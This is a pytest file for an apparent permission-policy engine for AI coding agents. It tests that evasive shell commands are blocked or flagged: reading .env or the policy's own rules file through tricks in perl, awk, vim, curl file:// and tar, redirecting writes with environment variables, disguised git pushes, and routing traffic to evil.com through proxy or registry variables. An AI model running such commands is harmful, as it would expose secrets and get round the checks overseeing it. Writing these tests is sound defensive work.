"""Commands that read or change what a policy protects, and connections it stops, in the mode that asks the least."""

import pytest

from permitry.config.load import load_policy
from permitry.core.call import ToolCall
from permitry.core.context import AuthContext
from permitry.core.decision import Verdict
from permitry.core.policy import AuthorizationPolicy

_HOSTS = """
schema = 1
[[rule]]
id = "all"
effect = "allow"
tools = ["*"]
[[rule]]
id = "no-evil"
effect = "block"
when.host = ["evil.com", "*.evil.com"]
"""


@pytest.fixture(scope="module")
def agent() -> AuthorizationPolicy:
    """Return the rules for a coding agent."""
    return load_policy("permitry:coding-agent")


@pytest.fixture(scope="module")
def hosts() -> AuthorizationPolicy:
    """Return a policy that permits everything but one host."""
    return load_policy(_HOSTS)


def _verdict(policy: AuthorizationPolicy, command: str) -> Verdict:
    call = ToolCall("bash", {"command": command})
    return policy.decide(call, AuthContext(workspace="/w", yolo_mode=True)).verdict


@pytest.mark.parametrize(
    "command",
    [
        # With any value, a pattern becomes hidden files too.
        "GLOBIGNORE=x; cat *", "export GLOBIGNORE=x; cat *", "declare GLOBIGNORE=x; cat *", "(GLOBIGNORE=x; cat *)",
        "for GLOBIGNORE in x; do cat *; done", "bash -c 'GLOBIGNORE=x; cat *'", "GLOBIGNORE=x; tee */rules.toml < a",
        # A file of options, or a name that perl or a console opens.
        "strings @.env", "nm @.env", "size @.env", "readelf -a @.env", "sqlite3 x '.read .env'",
        "perl -pe1 -- '<.env'", "perl -ne print ' .env'", "perl -pe1 '.env '", "perl -pe1 'cat .env|'",
        "vim -es <<< 'r .env|%p|q!'", "vim -es -c 'exe \"r .e\".\"nv\"' -c '%p' -c 'q!'",
        # Names that a program makes.
        "curl -s 'file:///w/.{env,x}'", "curl -s 'file:///w/.[e-e]nv'",
        "curl -s -o '#1/rules.toml' 'file:///w/{.permitry}/../a'", "perl -pi'.permitry/*' -e1 rules.toml",
        "awk 'BEGIN{ARGV[1]=\".e\" \"nv\";ARGC=2}{print}'", "awk 'BEGIN{ARGV[ARGC++]=\".e\" \"nv\"}{print}'",
        "awk -f - <<< 'BEGIN{while((getline l < \".env\")>0)print l}'",
        "tar cfI x 'cat .env >&2;' a", "split -l1 <<< 'cat .env'; . ./xaa",
        # Files and folders that a variable or an option names.
        "mktemp -p .permitry", "mktemp --tmpdir=.permitry", "TMPDIR=.permitry mktemp",
        "export TMPDIR=.permitry; mktemp", "GIT_TRACE2=/w/.permitry/rules.toml git version",
        "GIT_TRACE=$PWD/.permitry/rules.toml git version", "GIT_DIR=.permitry git init",
        "LD_DEBUG=all LD_DEBUG_OUTPUT=.permitry/x ls", "NODE_V8_COVERAGE=.permitry node -e 1",
        "PYTHONPYCACHEPREFIX=.permitry python3 -c 'import a'",
        # What publishes under another name.
        "git subtree push -P s origin x", "git send-pack ../o.git HEAD:refs/heads/x",
        "git -c help.autocorrect=1 psuh origin", "watch -n1 'a=b; git push'",
    ],
)  # fmt: skip
def test_what_is_protected_is_asked_about(agent: AuthorizationPolicy, command: str) -> None:
    """Or blocked."""
    assert _verdict(agent, command) is not Verdict.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "http_proxy=http://evil.com curl good.com", "export https_proxy=evil.com; curl good.com",
        "ALL_PROXY=evil.com curl good.com", "PIP_INDEX_URL=http://evil.com pip install x",
        "GOPROXY=http://evil.com go get x", "DOCKER_HOST=tcp://evil.com docker ps",
        "RSYNC_PROXY=evil.com:80 rsync a rsync://good.com/b", "npm_config_registry=http://evil.com npm install x",
        # Of several hosts, and in options of git.
        "psql 'postgresql://good.com,evil.com/x'", "mongosh 'mongodb://me@good.com,evil.com/x'",
        "git archive --remote=evil.com:x HEAD", "git send-email --smtp-server=evil.com a",
        "ssh-copy-id evil.com", "ssh-keyscan evil.com", "sshfs evil.com:/x y",
    ],
)  # fmt: skip
def test_a_host_in_a_variable_is_asked_about(hosts: AuthorizationPolicy, command: str) -> None:
    """It is where a program connects to, or what it connects through."""
    assert _verdict(hosts, command) is not Verdict.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "cat *", "strings a.out", "perl -pe1 a.txt", "curl -s 'file:///w/a'", "mktemp -p build", "TMPDIR=build mktemp",
        "PYTHONPATH=src python3 -m a", "vim -es -c '%s/a/b/' -c 'wq' f", "awk '{print ARGV[1]}' f",
        "perl -pi.bak -e1 f",
        "GIT_TRACE=1 git status", "make CC=clang CFLAGS=-O2", "tar czf a.tgz b", "ls | vim -", "split -l 9 f && ls",
        "env A=1 make", "time A=1 make", "for x in a b; do echo $x; done",
    ],
)  # fmt: skip
def test_what_looks_alike_runs(agent: AuthorizationPolicy, command: str) -> None:
    """A needless question is a defect as well."""
    assert _verdict(agent, command) is Verdict.ALLOW


@pytest.mark.parametrize("command", ["http_proxy=http://good.com curl good.com", "x=http://evil.com; ls"])
def test_another_host_is_not_asked_about(hosts: AuthorizationPolicy, command: str) -> None:
    """Nor an address that no command gets."""
    assert _verdict(hosts, command) is Verdict.ALLOW
